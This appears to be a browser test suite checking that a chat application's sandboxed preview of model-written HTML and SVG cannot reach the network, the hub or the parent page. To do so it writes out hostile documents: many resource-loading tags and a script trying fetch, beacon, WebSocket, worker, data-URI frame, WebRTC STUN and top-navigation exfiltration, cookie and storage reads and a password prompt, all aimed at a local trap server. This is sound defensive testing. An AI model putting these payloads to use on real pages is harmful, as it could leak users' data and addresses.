// Previews of hostile HTML documents and SVG images: nothing of them reaches the page, the hub or the network.
import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { mkdir } from "node:fs/promises";
import { createServer } from "node:net";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { accessible, fits, launch, open, pictures } from "./browser.mjs";
import { over } from "./furnish.mjs";
import { Hub } from "./hub.mjs";
import { Vendor } from "./vendor.mjs";

let browser;
before(async () => {
  await mkdir(pictures, { recursive: true });
  browser = await launch();
});
after(() => browser?.close());

/** Trap is a server that counts what reaches it: connections, requests and packets. */
class Trap {
  connections = 0;
  reached = [];

  static async start() {
    const trap = new Trap();
    trap.server = createServer((socket) => {
      trap.connections++;
      socket.on("data", (data) => trap.reached.push(String(data).split("\r\n")[0]));
      socket.on("error", () => {});
    }).listen(0, "127.0.0.1");
    await once(trap.server, "listening");
    trap.address = `127.0.0.1:${trap.server.address().port}`;
    trap.stun = createSocket("udp4").on("message", () => trap.reached.push("packet"));
    trap.stun.bind(0, "127.0.0.1");
    await once(trap.stun, "listening");
    return trap;
  }

  end() {
    this.server.close();
    this.stun.close();
  }
}

/** answered opens a conversation with one answer of a model. */
async function answered(t, text, options) {
  const vendor = await Vendor.start([{ text }]);
  t.after(() => vendor.end());
  const hub = await Hub.start({
    config: `models:\n  default: openai:fake\n  base_url: ${vendor.url}\n`,
    env: { OPENAI_API_KEY: "x" },
  });
  t.after(() => hub.end());
  const session = await hub.ask("POST", "/sessions", { title: "Preview", message: "Draw" });
  await over(hub, session.id);
  const page = await open(browser, hub, options);
  t.after(() => page.context().close());
  await page.goto(`/chat/${session.id}`);
  await page.getByRole("button", { name: "Preview", exact: true }).click();
  return { hub, page };
}

const fenced = (kind, text) => `Here it is:\n\n\`\`\`${kind}\n${text}\n\`\`\`\n`;

/** What a document can do without scripts. */
const passive = (at) => `
<link rel="preconnect" href="http://${at}/preconnect">
<link rel="dns-prefetch" href="http://${at}/dns">
<link rel="prefetch" href="http://${at}/prefetch">
<link rel="stylesheet" href="http://${at}/style">
<meta http-equiv="refresh" content="0;url=http://${at}/refresh">
<base href="http://${at}/">
<style>@import "http://${at}/import"; body { background: url(http://${at}/background) } @font-face { font-family: x; src: url(http://${at}/font) } h1 { font-family: x }</style>
<img src="http://${at}/image" alt=""><img srcset="http://${at}/srcset 1x" alt="">
<video src="http://${at}/video" poster="http://${at}/poster" autoplay></video><audio src="http://${at}/audio" autoplay></audio>
<iframe src="http://${at}/frame"></iframe><object data="http://${at}/object"></object><embed src="http://${at}/embed">
<svg><image href="http://${at}/svgimage"></image><use href="http://${at}/use#a"></use></svg>
<a href="http://${at}/link" ping="http://${at}/ping">leave</a><a href="#below">below</a>
<form action="http://${at}/form" method="post"><button>send</button></form>`;

/** What its scripts can do. Each attack ends with "blocked", or with what it reached. */
const active = (at, stun) => `<script>
const events = (e, on) => new Promise((resolve) => { e.onload = () => resolve("loaded"); e.onerror = () => resolve("blocked"); on(); });
const attacks = {
  fetch: () => fetch("http://${at}/fetch", { mode: "no-cors" }).then(() => "sent"),
  own: () => fetch("/api/v1/me").then((r) => r.text()),
  xhr: () => new Promise((resolve) => { const x = new XMLHttpRequest(); x.onload = () => resolve("loaded"); x.onerror = () => resolve("blocked"); x.open("GET", "http://${at}/xhr"); x.send(); }),
  beacon: () => { navigator.sendBeacon("http://${at}/beacon", "x"); return "blocked"; }, // the trap tells
  socket: () => new Promise((resolve) => { const s = new WebSocket("ws://${at}/socket"); s.onopen = () => resolve("open"); s.onerror = () => resolve("blocked"); }),
  stream: () => new Promise((resolve) => { const s = new EventSource("http://${at}/stream"); s.onopen = () => resolve("open"); s.onerror = () => resolve("blocked"); }),
  image: () => { const i = new Image(); return events(i, () => (i.src = "http://${at}/beacon.png?" + document.title)); },
  script: () => { const s = document.createElement("script"); return events(s, () => { s.src = "http://${at}/script"; document.head.append(s); }); },
  module: () => import("http://${at}/module").then(() => "loaded"),
  style: () => { const s = document.createElement("link"); s.rel = "stylesheet"; return events(s, () => { s.href = "http://${at}/css"; document.head.append(s); }); },
  worker: () => new Promise((resolve) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('http://${at}/worker').then(() => postMessage('sent'), () => postMessage('blocked'))"]))); w.onmessage = (e) => resolve(e.data); w.onerror = () => resolve("blocked"); }),
  form: () => { const f = document.createElement("form"); f.action = "http://${at}/form"; f.method = "post"; document.body.append(f); f.submit(); return "blocked"; },
  popup: () => (window.open("http://${at}/popup") ? "opened" : "blocked"),
  top: () => { top.location = "http://${at}/top"; return "moved"; },
  parent: () => parent.document.title,
  cookie: () => document.cookie,
  storage: () => String(localStorage.length),
  database: () => new Promise((resolve) => { const r = indexedDB.open("x"); r.onsuccess = () => resolve("open"); r.onerror = () => resolve("blocked"); }),
  modal: () => (confirm("Password?") ? "asked" : "blocked"),
  frame: () => { const f = document.createElement("iframe"); f.src = "http://${at}/frame"; document.body.append(f); return "blocked"; },
  data: () => { const f = document.createElement("iframe"); f.src = "data:text/html,<script>fetch('http://${at}/data')</" + "script>"; document.body.append(f); return "blocked"; },
  webrtc: async () => {
    const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:${stun}" }] });
    pc.createDataChannel("x");
    const found = [];
    const over = new Promise((resolve) => { pc.onicecandidate = (e) => (e.candidate ? found.push(e.candidate.candidate) : resolve()); pc.onicegatheringstatechange = () => pc.iceGatheringState === "complete" && resolve(); });
    await pc.setLocalDescription(await pc.createOffer());
    await Promise.race([over, new Promise((r) => setTimeout(r, 3000))]);
    return found.length ? "found " + found : "blocked";
  },
};
(async () => {
  for (const [name, attack] of Object.entries(attacks)) {
    let result;
    try { result = await attack(); } catch (e) { result = "blocked"; }
    const p = document.createElement("p");
    p.textContent = name + ": " + result;
    document.body.append(p);
  }
  document.body.append(Object.assign(document.createElement("h2"), { textContent: "all tried" }));
})();
</script>`;

test("a document shows without scripts and reaches nothing", async (t) => {
  const trap = await Trap.start();
  t.after(() => trap.end());
  const { page } = await answered(
    t,
    fenced("html", `<h1>Tides</h1>${passive(trap.address)}<script>document.body.append("ran")</script>`),
  );
  page.allowed.push(/Content Security Policy|sandboxed|Unsafe attempt|a request leaves/); // the trap tells whether it did
  const frame = page.frameLocator(".content-preview iframe");
  await frame.getByRole("heading", { name: "Tides" }).waitFor();
  assert.equal(await page.locator(".content-preview iframe").getAttribute("sandbox"), "");
  await frame.getByText("leave").click();
  await frame.getByRole("button", { name: "send" }).click();
  await frame.getByText("below").click();
  await frame.getByRole("heading", { name: "Tides" }).waitFor();
  assert.equal(await frame.getByText("ran").count(), 0);
  assert.equal(trap.connections, 0);
  assert.deepEqual(trap.reached, []);
  page.calm();
});

test("the scripts of a document run when the user starts them, and reach nothing", async (t) => {
  const trap = await Trap.start();
  t.after(() => trap.end());
  const stun = `127.0.0.1:${trap.stun.address().port}`;
  const { page, hub } = await answered(
    t,
    fenced("html", `<h1>Tides</h1>${passive(trap.address)}${active(trap.address, stun)}`),
  );
  page.allowed.push(
    /Content Security Policy|sandbox|cross-origin|Failed to load|WebSocket|webrtc|Uncaught|confirm|Unsafe attempt|a request leaves/i,
  );
  const outside = [];
  page.context().on("page", (p) => outside.push(p.url()));
  await page.getByText("This page contains scripts.").waitFor();
  await page.getByRole("button", { name: "Run scripts" }).click();
  const frame = page.frameLocator(".content-preview iframe");
  await frame.getByText("all tried").waitFor();
  assert.equal(await page.locator(".content-preview iframe").getAttribute("sandbox"), "allow-scripts");
  const results = await frame.locator("p").allTextContents();
  assert.deepEqual(
    results.filter((r) => !r.endsWith(": blocked")),
    [],
  );
  assert.deepEqual(trap.reached, []);
  assert.deepEqual(outside, []);
  assert.ok(page.url().startsWith(hub.url), "the page stays");
  await page.getByRole("button", { name: "Stop scripts" }).click();
  await page.getByRole("button", { name: "Run scripts" }).waitFor();
  assert.equal(
    page.frames().some((f) => f.url().endsWith("/preview.html")),
    false,
    "the scripts have ended",
  );
  page.calm();
});

test("a document cannot send its frame elsewhere", async (t) => {
  const trap = await Trap.start();
  t.after(() => trap.end());
  const { page } = await answered(
    t,
    fenced(
      "html",
      `<h1>Tides</h1><button onclick="location = 'http://${trap.address}/moved?' + document.title">go</button>`,
    ),
  );
  page.allowed.push(/Content Security Policy|Framing/);
  await page.getByRole("button", { name: "Run scripts" }).click();
  const refused = page.waitForEvent("console", (m) => /frame-src|Framing/.test(m.text()));
  await page.frameLocator(".content-preview iframe").getByRole("button", { name: "go" }).click();
  await refused;
  assert.deepEqual(trap.reached, []);
});

test("an image is shown as an image, without its scripts", async (t) => {
  const trap = await Trap.start();
  t.after(() => trap.end());
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 20" onload="fetch('http://${trap.address}/onload')"><script>fetch("http://${trap.address}/script")</script><image href="http://${trap.address}/image" width="9" height="9"/><rect width="40" height="20" fill="teal"/></svg>`;
  const { page } = await answered(t, fenced("svg", svg));
  const image = page.locator(".content-preview img");
  await image.waitFor();
  assert.ok(await image.evaluate((i) => i.decode().then(() => i.naturalWidth > 0)));
  assert.deepEqual(trap.reached, []);
  page.calm();
});

for (const view of [
  { name: "wide-light", width: 1440, height: 900 },
  { name: "narrow-dark", width: 360, height: 740, scheme: "dark" },
])
  test(`a preview fits, is accessible and works with the keyboard: ${view.name}`, async (t) => {
    const { page } = await answered(
      t,
      fenced("html", "<h1>Tides</h1><p onclick='x()'>High water at 14:20.</p><label>Port <input></label>"),
      {
        ...view,
        axe: true,
      },
    );
    page.allowed.push(/Blocked script execution/); // of axe and of the document
    const frame = page.frameLocator(".content-preview iframe");
    await frame.getByRole("heading", { name: "Tides" }).waitFor();
    await page.screenshot({ path: join(pictures, `preview-${view.name}.png`) });
    await fits(page, "the preview");
    await accessible(page, "the preview");
    await frame.getByLabel("Port").fill("Cuxhaven");
    await page.getByRole("button", { name: "Enlarge" }).press("Enter");
    const large = page.getByRole("dialog", { name: "Preview: HTML" });
    await large.waitFor();
    assert.equal(await frame.getByLabel("Port").inputValue(), "Cuxhaven"); // the document was not loaded again
    const { width, height } = await large.boundingBox();
    assert.deepEqual([width, height], [view.width, view.height]);
    await page.screenshot({ path: join(pictures, `preview-full-${view.name}.png`) });
    await accessible(page, "the preview in full");
    await page.keyboard.press("Escape");
    await large.waitFor({ state: "detached" });
    assert.equal(await frame.getByLabel("Port").inputValue(), "Cuxhaven");
    await page.getByRole("button", { name: "Code", exact: true }).press("Enter");
    await page.locator(".content-code code").first().waitFor();
    assert.equal(page.frames().length, 1);
    page.calm();
  });
